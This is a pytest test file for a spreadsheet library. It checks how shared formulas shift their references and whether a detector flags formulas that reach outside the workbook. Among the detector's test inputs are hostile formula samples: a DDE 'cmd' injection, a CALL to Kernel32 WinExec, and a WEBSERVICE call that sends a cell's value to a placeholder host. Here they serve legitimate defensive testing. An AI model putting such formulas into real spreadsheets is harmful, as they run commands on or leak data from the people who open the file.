"""Shared formulas shifted as a spreadsheet shifts them, and formulas that lead out of the file."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.formula.translate import Translator

from intake.addresses import column_letters
from intake.formulas_text import SharedFormula, leads_outside


@pytest.mark.parametrize(
    ("formula", "rows", "columns", "shifted"),
    [
        ("A1", 1, 1, "B2"),
        ("$A1+A$1+$A$1", 1, 1, "$A2+B$1+$A$1"),
        ("SUM(A1:B2)", 2, 0, "SUM(A3:B4)"),
        ("SUM(A:B)+SUM($A:C)", 5, 1, "SUM(B:C)+SUM($A:D)"),
        ("SUM(1:2)+SUM(3:$4)", 1, 5, "SUM(2:3)+SUM(4:$4)"),
        ("表1!A1+'A1 B2'!C3", 1, 1, "表1!B2+'A1 B2'!D4"),
        ('"A1"&A1&"say ""A1"""', 1, 0, '"A1"&A2&"say ""A1"""'),
        ("LOG10(A1)+ATAN2(B1,C1)", 1, 0, "LOG10(A2)+ATAN2(B2,C2)"),
        ("表[A1]+表[[#This Row],[B2]]", 1, 1, "表[A1]+表[[#This Row],[B2]]"),
        ("AB1C+A1_x+x.A1+件A1+ABCD1+A12345678", 1, 1, "AB1C+A1_x+x.A1+件A1+ABCD1+A12345678"),
        ("AA1!B1", 1, 0, "AA1!B2"),
        ("XFD1+A1048576+B2", 1, 1, "#REF!+#REF!+C3"),
        ("B2", -2, 0, "#REF!"),
        ("IF(A1>=1E5,1,TRUE)", 1, 0, "IF(A2>=1E5,1,TRUE)"),
    ],
)
def test_relative_parts_move_and_nothing_else(formula: str, rows: int, columns: int, shifted: str) -> None:
    assert SharedFormula(formula).shifted(rows, columns) == shifted


REFERENCES = st.builds(
    lambda a, column, b, row: f"{a}{column_letters(column)}{b}{row}",
    st.sampled_from(["", "$"]),
    st.integers(20, 700),
    st.sampled_from(["", "$"]),
    st.integers(20, 5000),
)
PIECES = st.one_of(REFERENCES, st.sampled_from(["1", '"A1"', "SUM(B30:C40)", "表!D50", "IF(E60,1,2)"]))


@given(st.lists(PIECES, min_size=1, max_size=6), st.integers(-19, 40), st.integers(-1, 40))
def test_it_shifts_as_openpyxl_does(pieces: list[str], rows: int, columns: int) -> None:
    formula = "+".join(pieces)
    target = f"{column_letters(50 + columns)}{100 + rows}"
    expected = Translator(f"={formula}", origin="AX100").translate_formula(target)
    assert SharedFormula(formula).shifted(rows, columns) == expected.removeprefix("=")


@pytest.mark.parametrize(
    "formula",
    [
        "[1]Sheet1!A1",
        "'\\\\server\\share\\book.xlsx'!name",
        "'C:/book.xlsx'!name",
        "'file:///C:/book.ods'#$表.A1",
        "SUM([2]表一!A1:B2)",
        "[1]!name",
        "'[a b.xlsx]表'!A1",
        "'C:\\x\\[a.xlsx]表'!A1",
        "cmd|'/c calc'!A0",
        "Excel|'a.xls'!R1C1",
        "1+DDE|topic!item",
        '_xlfn.WEBSERVICE("http://example.invalid/"&A1)',
        '1+webservice ("http://example.invalid/")',
        "_xlfn._xlws.IMAGE(A1)",
        'RTD("prog.id",,"x")',
        'CALL("Kernel32","WinExec","JCJ","calc",0)',
        'REGISTER.ID("a","b")',
    ],
)
def test_a_formula_that_reads_something_outside_is_found(formula: str) -> None:
    assert leads_outside(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "A1",
        "'表 一'!A1+表二!B2",
        "表[件数]+Sheet2!A1",
        "SUM(表[[#This Row],[件数]])",
        '"[1]Sheet1!A1"',
        "\"cmd|'x'!A0\"&A1",
        "INDEX(表[a],1)*表2!B1",
        "[0]!合计+'[0]表'!A1",
        "[@件数]*2",
        '_xlfn.DISPIMG("ID_0F",1)',
        '"WEBSERVICE("&A1&")"',
        "MYCALL(A1)+RECALL(A2)+CALLS",
    ],
)
def test_a_formula_that_stays_inside_is_not(formula: str) -> None:
    assert not leads_outside(formula)
